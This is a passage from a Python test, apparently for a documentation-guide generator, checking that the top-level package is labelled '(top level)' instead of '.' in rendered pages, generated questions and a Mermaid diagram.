    root = next(p for p in guide.pages if p.kind == "package" and "main.py" in rendered(guide, p.slug))
    assert root.title == "(top level)" and "\n# Package \\(top level\\)\n" in rendered(guide, root.slug)
    assert "How do `pkg` and the top-level modules work together?" in guide.questions
    text = "\n".join(rendered(guide, p.slug) for p in guide.pages) + "\n".join(guide.questions)
    assert "`.`" not in text and "Package .\n" not in text and "[.](" not in text
    assert "_top level_" in guide.diagram_mermaid and '["."]' not in guide.diagram_mermaid
